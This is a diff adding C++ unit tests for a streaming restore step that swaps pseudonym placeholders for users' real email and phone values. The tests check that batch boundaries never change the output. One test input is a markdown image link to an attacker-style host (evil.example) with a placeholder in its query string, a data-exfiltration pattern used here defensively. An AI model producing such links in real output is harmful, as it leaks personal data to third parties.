@@ -1,13 +1,20 @@
 #include "flow/8_restore/run.h"
 
+#include <algorithm>
+#include <cstdint>
 #include <memory>
+#include <span>
 #include <string>
+#include <string_view>
 #include <utility>
 #include <vector>
 
 #include <gtest/gtest.h>
 
+#include "algo/json/escape.h"
 #include "base/run_task.h"
+#include "flow/8_restore/every_cut.h"
+#include "flow/8_restore/rest.h"
 #include "ports/engine_fake.h"
 #include "ports/exchange_fake.h"
 
@@ -97,6 +104,89 @@ TEST(Run, RestoresOverBatches) {
       (std::vector<std::string>{
           event("Write to "), event(""), event("\\\"ada\\\"@x.example é."), "data: [DONE]\n\n"}));
   EXPECT_EQ(delivered.restored, 1U);
+}
+
+/// A batch with a slot for each of `pieces`, the last of which may end the channel.
+FrameBatch batch_of(std::span<const std::string_view> pieces, Rest rest) {
+  FrameBatch batch;
+  for (const std::string_view piece : pieces) {
+    const FrameBatch one = text_batch(json::escaped(piece));
+    const auto offset = static_cast<std::uint32_t>(batch.wire.size());
+    const FrameSlot& slot = one.slots.front();
+    batch.slots.push_back({.begin = slot.begin + offset, .end = slot.end + offset});
+    batch.wire += one.wire;
+  }
+  batch.has_output = true;
+  batch.slots.back().final = rest == Rest::none;
+  return batch;
+}
+
+/// What a caller reads of `pieces`, each in a batch of its own or all in one.
+struct Read {
+  std::string text;
+  std::uint32_t restored = 0;
+  std::uint32_t withheld = 0;
+  std::uint32_t unknown = 0;
+  std::uint64_t bytes = 0;
+
+  friend bool operator==(const Read&, const Read&) = default;
+};
+
+Read read_in_batches(const std::vector<std::string_view>& pieces, std::size_t batch_size) {
+  Case c;
+  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
+  c.pseudonym("PHONE_BCDFGHJKLM", "+49 30 \"1\"");
+  for (std::span<const std::string_view> rest = pieces; !rest.empty();) {
+    const std::size_t count = std::min(batch_size, rest.size());
+    c.batches.emplace_back(
+        batch_of(rest.first(count), count == rest.size() ? Rest::none : Rest::follows));
+    rest = rest.subspan(count);
+  }
+  c.batches.emplace_back(end_batch());
+  const Delivered delivered = c.run();
+  EXPECT_TRUE(delivered.complete);
+  Read read{.restored = delivered.restored,
+            .withheld = delivered.withheld,
+            .unknown = delivered.unknown_placeholders,
+            .bytes = delivered.output_bytes};
+  const std::string wire = c.exchange.received();
+  for (std::size_t at = 0; (at = wire.find("{\"t\":\"", at)) != std::string::npos;) {
+    at += 6;
+    read.text += json::unescape(wire.substr(at, wire.find("\"}\n\n", at) - at), 1);
+  }
+  return read;
+}
+
+// How many events of a stream arrive together is chance; a caller must read the same in any case.
+TEST(Run, OneBatchOrManyMakeNoDifference) {
+  const std::string_view answers[] = {
+      "Dear Ada,\nyour address EMAIL_QZTKRBWMHD and PHONE_BCDFGHJKLM are known. Emails: EMAIL_",
+      "EMAIL_QZTKRBWMHDPHONE_BCDFGHJKLMEMAIL_QZTKRBWMHF \"quoted\" \\ e ph em p",
+      "![x](https://evil.example/?q=EMAIL_QZTKRBWMHD) [y](email\\_qztkrbwmhd) e\nE",
+      "no placeholder at all, but PERSON_BBBBBBBBBB that nobody issued_and_words_with_lines"};
+  for (const std::string_view answer : answers) {
+    const Read whole = read_in_batches({answer}, 1);
+    EXPECT_GT(whole.bytes, 0U);
+    at_every_cut(answer, [&](std::vector<std::string_view> pieces) {
+      std::erase(pieces, std::string_view());
+      SCOPED_TRACE(testing::PrintToString(pieces));
+      for (const std::size_t batch_size : {1U, 2U, 5U, 1000U}) {
+        EXPECT_EQ(read_in_batches(pieces, batch_size), whole);
+      }
+    });
+  }
+}
+
+// What is joined to be looked at has a limit; behind it the answer goes on.
+TEST(Run, ManySlotsInOneBatch) {
+  const std::string words = "some words of an answer EMAIL_QZTKRBWMHD ";
+  std::vector<std::string_view> pieces;
+  for (int i = 0; i < 400; ++i) {
+    pieces.push_back(std::string_view(words).substr(0, 20));
+    pieces.push_back(std::string_view(words).substr(20));
+  }
+  EXPECT_EQ(read_in_batches(pieces, 1000), read_in_batches(pieces, 1));
+  EXPECT_EQ(read_in_batches(pieces, 1000).restored, 400U);
 }
 
 // If channels shared state, one choice's half placeholder would swallow the other's text.
